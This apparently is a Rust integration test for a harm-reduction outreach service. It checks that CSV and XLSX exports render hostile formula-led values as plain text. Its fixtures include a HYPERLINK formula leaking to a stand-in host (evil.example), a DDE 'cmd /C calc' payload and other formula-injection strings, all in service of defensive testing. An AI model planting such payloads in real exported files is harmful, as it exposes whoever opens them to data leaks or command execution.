//! Exports as a spreadsheet opens them, through the real server over HTTP on both backends:
//! a hostile corpus (values and catalogue labels that a spreadsheet would run as formulas)
//! goes in through a device push and the catalogue, every CSV is parsed as CSV and every
//! XLSX is opened with openpyxl (tests/spreadsheet/dump_xlsx.py); no cell may be a formula,
//! and the record-level workbook has real date-time, number and yes/no cells, one column per
//! field with the organization's labels, and a frozen, filtered heading row. (Tab- and
//! CR-led values cannot come in: the record model and the catalogue refuse control
//! characters; `export::cells` tests that they would be quoted.)

mod common;

use std::path::{Path, PathBuf};

use common::*;
use reqwest::Method;
use serde_json::{json, Value};

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak\",\"Click for details\")";
const CMD: &str = "+cmd|' /C calc'!A0";

/// Would a spreadsheet run this cell as a formula?
fn formula_like(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

fn catalogue() -> Value {
    json!({
        "activity_kinds": [
            {"id": "outreach_contact", "label": "@SUM(1)"},
            {"id": "overdose_response", "label": "Overdose response"},
            {"id": "supplies_distributed", "label": "Supplies"},
            {"id": "systems_navigation", "label": "Navigation"}
        ],
        "supply_items": [{"id": "naloxone_kit", "label": "Naloxone kit"}, {"id": "-cmd", "label": CMD}],
        "areas": [{"id": "-1", "label": HYPERLINK}, {"id": "v6b", "label": "Strathcona"}],
        "roles": [{"id": "-r", "label": "-1+1", "description": "Walks the area, hands out supplies."}],
        "retention_days": 90
    })
}

fn records() -> Vec<Value> {
    let rec = |n: u32, record_type: &str, kind: &str, body: Value| {
        json!({
            "id": rid(n), "version": 1, "record_type": record_type, "kind": kind,
            "occurred_at": "2026-11-03T10:00:00-08:00", "recorded_at": "2026-11-03T10:00:05-08:00",
            "body": body
        })
    };
    vec![
        rec(
            1,
            "activity",
            "outreach_contact",
            json!({"area": "-1", "people_reached": 3, "minutes": 20, "note": HYPERLINK}),
        ),
        rec(
            2,
            "activity",
            "overdose_response",
            json!({"area": "v6b", "naloxone": {"doses": 2, "route": "intranasal"},
                   "called_911": "yes", "outcome": "survived", "note": "-1+1"}),
        ),
        rec(
            3,
            "activity",
            "supplies_distributed",
            json!({"area": "-1", "note": "=2+2",
                   "items": [{"item": "-cmd", "quantity": 3}, {"item": "naloxone_kit", "quantity": 2}]}),
        ),
        rec(
            4,
            "activity",
            "systems_navigation",
            json!({"area": "-1", "task": "housing", "contact_type": "phone", "outcome": "pending",
                   "minutes": 30, "referral": {"destination": CMD, "type": "warm_handoff"},
                   "barriers": ["@SUM(1)", "-1+1"], "follow_up_date": "2026-11-20",
                   "out_of_pocket_cents": 1250}),
        ),
        rec(
            5,
            "shift",
            "shift",
            json!({"started_at": "2026-11-03T09:00:00-08:00", "ended_at": "2026-11-03T17:00:00-08:00",
                   "pay_type": "paid", "role": "-r", "note": "@SUM(1)"}),
        ),
    ]
}

fn target_dir() -> PathBuf {
    std::env::var_os("CARGO_TARGET_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target"))
}

fn python() -> PathBuf {
    let venv = target_dir().join("spreadsheet-venv");
    let py = venv.join("bin/python");
    if !py.exists() {
        // scripts/setup.sh makes it; a test run on its own makes it too (PyPI openpyxl).
        let ok = std::process::Command::new("python3")
            .args(["-m", "venv"])
            .arg(&venv)
            .status()
            .expect("python3 -m venv (Debian python3-venv)")
            .success()
            && std::process::Command::new(venv.join("bin/pip"))
                .args(["install", "-q", "openpyxl==3.1.5"])
                .status()
                .expect("pip")
                .success();
        assert!(ok, "could not install openpyxl into {}", venv.display());
    }
    py
}

/// What openpyxl sees in each file.
fn open_with_openpyxl(files: &[PathBuf]) -> Value {
    let out = std::process::Command::new(python())
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/spreadsheet/dump_xlsx.py"))
        .args(files)
        .output()
        .expect("run openpyxl");
    assert!(
        out.status.success(),
        "openpyxl: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("openpyxl's JSON")
}

fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).expect("utf8");
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.expect("a CSV row").iter().map(str::to_string).collect())
        .collect()
}

/// The row of the sheet whose `col` holds `want`, as heading → cell.
fn row_where<'a>(sheet: &'a Value, col: &str, want: &str) -> serde_json::Map<String, Value> {
    let rows = sheet["rows"].as_array().expect("rows");
    let heads: Vec<&str> = rows[0]
        .as_array()
        .expect("heading row")
        .iter()
        .map(|c| c["v"].as_str().unwrap_or(""))
        .collect();
    let at = heads.iter().position(|h| *h == col).expect(col);
    let row: &'a Value = rows[1..]
        .iter()
        .find(|r| r[at]["v"] == json!(want))
        .unwrap_or_else(|| panic!("no row with {col} = {want}"));
    heads
        .iter()
        .zip(row.as_array().expect("row"))
        .map(|(h, c)| (h.to_string(), c.clone()))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_export_cell_is_a_formula_and_the_workbook_has_typed_columns() {
    for b in BACKENDS {
        let r = start(b).await;
        let device = enrolled(&r, "demo").await;
        let coord = staff_session(&r, "demo", "cora", "coordinator").await;
        let put = coord
            .send(&r, Method::PUT, "/api/v1/staff/catalogue")
            .json(&catalogue())
            .send()
            .await
            .expect("put");
        assert_eq!(put.status().as_u16(), 200, "{:?}", put.text().await);
        let (s, resp) = push(&r, &device, records()).await;
        assert_eq!(s, 200, "{resp}");
        for res in resp["results"].as_array().expect("results") {
            assert_eq!(res["status"], json!("accepted"), "{b:?}: {res}");
        }
        let get = |q: &str| {
            let req = coord.get(&r, q);
            let q = q.to_string();
            async move {
                let resp = req.send().await.expect("get");
                assert_eq!(resp.status().as_u16(), 200, "{q}");
                resp.bytes().await.expect("bytes").to_vec()
            }
        };

        // Every CSV: parsed as CSV, no cell starts like a formula; values kept behind a '.
        let mut csvs = Vec::new();
        for q in [
            "/api/v1/staff/records/export?format=csv",
            "/api/v1/staff/records/export?format=csv&excel=true",
            "/api/v1/export/activities.csv",
        ] {
            csvs.push((q.to_string(), get(q).await));
        }
        for by in [
            "measure=activities&by=area",
            "measure=activities&by=kind",
            "measure=supplies&by=item",
            "measure=hours&by=role",
        ] {
            for excel in ["", "&excel=true"] {
                let q = format!("/api/v1/staff/summary/export?format=csv&{by}{excel}");
                let bytes = get(&q).await;
                csvs.push((q, bytes));
            }
        }
        for (q, bytes) in &csvs {
            let cells = csv_cells(bytes);
            assert!(cells.len() > 1, "{q}");
            for cell in cells.iter().flatten() {
                assert!(
                    !formula_like(cell),
                    "{b:?} {q}: a formula-like cell {cell:?}"
                );
            }
        }
        let record_csv = csv_cells(&csvs[0].1);
        assert!(
            record_csv.iter().flatten().any(|c| c == "'-1"),
            "the area id is kept, quoted"
        );
        let by_area = csv_cells(&csvs[3].1);
        assert!(
            by_area[0].contains(&"'-1".to_string()),
            "headings too: {:?}",
            by_area[0]
        );
        let by_item = csv_cells(&csvs[7].1);
        assert!(
            by_item[0].contains(&"'-cmd".to_string()),
            "{:?}",
            by_item[0]
        );

        // Every XLSX, opened by openpyxl: not one formula cell.
        let dir = tempfile::tempdir().expect("tmp");
        let mut files = Vec::new();
        for (name, q) in [
            (
                "records-en.xlsx",
                "/api/v1/staff/records/export?format=xlsx",
            ),
            (
                "records-fr.xlsx",
                "/api/v1/staff/records/export?format=xlsx&lang=fr",
            ),
            (
                "by-area.xlsx",
                "/api/v1/staff/summary/export?format=xlsx&measure=activities&by=area",
            ),
            (
                "by-item.xlsx",
                "/api/v1/staff/summary/export?format=xlsx&measure=supplies&by=item",
            ),
        ] {
            let path = dir.path().join(name);
            std::fs::write(&path, get(q).await).expect("write");
            files.push(path);
        }
        // Kept for a person to open (target/export-spreadsheet/), from the SQLite run.
        if b == Backend::Sqlite {
            let keep = target_dir().join("export-spreadsheet");
            std::fs::create_dir_all(&keep).expect("mkdir");
            for f in &files {
                std::fs::copy(f, keep.join(f.file_name().expect("name"))).expect("copy");
            }
        }
        let seen = open_with_openpyxl(&files);
        let book = |i: usize| &seen[files[i].to_str().expect("path")][0];
        for f in &files {
            for row in seen[f.to_str().expect("path")][0]["rows"]
                .as_array()
                .expect("rows")
            {
                for c in row.as_array().expect("row") {
                    assert_ne!(c["t"], json!("f"), "{b:?} {f:?}: a formula cell {c}");
                }
            }
        }

        // The record-level workbook: frozen, filtered, typed, labelled.
        let en = book(0);
        assert_eq!(en["name"], json!("Records"));
        assert_eq!(en["freeze"], json!("A2"), "heading row frozen");
        assert!(
            en["filter"].as_str().expect("a filter").starts_with("A1:"),
            "{}",
            en["filter"]
        );
        let heads: Vec<&str> = en["rows"][0]
            .as_array()
            .expect("heads")
            .iter()
            .map(|c| c["v"].as_str().expect("heading text"))
            .collect();
        for h in [
            "When (local time)",
            "People reached",
            "Minutes",
            "Naloxone doses",
            "Naloxone route",
            "Outcome",
            "911 called",
            "Supplies: Naloxone kit",
            "Task",
            "Follow-up date",
        ] {
            assert!(heads.contains(&h), "{h} in {heads:?}");
        }
        assert!(!heads.contains(&"details"), "no JSON column: {heads:?}");
        assert!(
            heads.contains(&format!("Supplies: {CMD}").as_str()),
            "item label is a string heading"
        );

        let outreach = row_where(en, "Record id", &rid(1));
        assert_eq!(
            outreach["Kind"],
            json!({"t": "s", "v": "@SUM(1)"}),
            "label, as text"
        );
        assert_eq!(
            outreach["Area"],
            json!({"t": "s", "v": HYPERLINK}),
            "text cell, not a formula"
        );
        assert_eq!(outreach["Note"], json!({"t": "s", "v": HYPERLINK}));
        assert_eq!(outreach["People reached"], json!({"t": "n", "v": 3}));
        assert_eq!(outreach["Minutes"], json!({"t": "n", "v": 20}));
        assert_eq!(
            outreach["When (local time)"],
            json!({"t": "d", "v": "2026-11-03T10:00:00"})
        );
        assert_eq!(outreach["Received (UTC)"]["t"], json!("d"));
        assert_eq!(outreach["Version"], json!({"t": "n", "v": 1}));
        assert_eq!(
            outreach["On shift"],
            json!({"t": "b", "v": true}),
            "the model's default"
        );
        assert_eq!(
            outreach["Naloxone doses"]["v"],
            Value::Null,
            "not a field of this kind"
        );

        let od = row_where(en, "Record id", &rid(2));
        assert_eq!(od["Naloxone doses"], json!({"t": "n", "v": 2}));
        assert_eq!(od["Naloxone route"], json!({"t": "s", "v": "Nasal spray"}));
        assert_eq!(od["911 called"], json!({"t": "s", "v": "Yes"}));
        assert_eq!(od["Outcome"], json!({"t": "s", "v": "Survived"}));
        assert_eq!(od["Area"], json!({"t": "s", "v": "Strathcona"}));
        assert_eq!(od["Note"], json!({"t": "s", "v": "-1+1"}));
        assert_eq!(od["EMS arrived"], json!({"t": "b", "v": false}));

        let supplies = row_where(en, "Record id", &rid(3));
        assert_eq!(
            supplies["Supplies: Naloxone kit"],
            json!({"t": "n", "v": 2})
        );
        assert_eq!(
            supplies[&format!("Supplies: {CMD}")],
            json!({"t": "n", "v": 3})
        );

        let nav = row_where(en, "Record id", &rid(4));
        assert_eq!(
            nav["Follow-up date"],
            json!({"t": "d", "v": "2026-11-20T00:00:00"})
        );
        assert_eq!(nav["Out-of-pocket costs"], json!({"t": "n", "v": 12.5}));
        assert_eq!(
            nav["Barriers addressed"],
            json!({"t": "s", "v": "@SUM(1); -1+1"})
        );
        assert_eq!(nav["Referred to"], json!({"t": "s", "v": CMD}));
        assert_eq!(nav["Outcome"]["t"], json!("s"));

        let shift = row_where(en, "Record id", &rid(5));
        assert_eq!(shift["Role"], json!({"t": "s", "v": "-1+1"}));
        assert_eq!(shift["Pay type"]["t"], json!("s"));
        assert_eq!(
            shift["Shift ended (local time)"],
            json!({"t": "d", "v": "2026-11-03T17:00:00"})
        );

        let fr = book(1);
        assert_eq!(fr["name"], json!("Fiches"));
        let od = row_where(fr, "Identifiant", &rid(2));
        assert_eq!(od["Doses de naloxone"], json!({"t": "n", "v": 2}));
        assert_eq!(od["Quand (heure locale)"]["t"], json!("d"));
        assert!(
            od["Voie de la naloxone"]["v"]
                .as_str()
                .expect("route")
                .len()
                > 3
        );
        assert_eq!(
            book(2)["freeze"],
            json!("B2"),
            "summary headings frozen too"
        );
    }
}
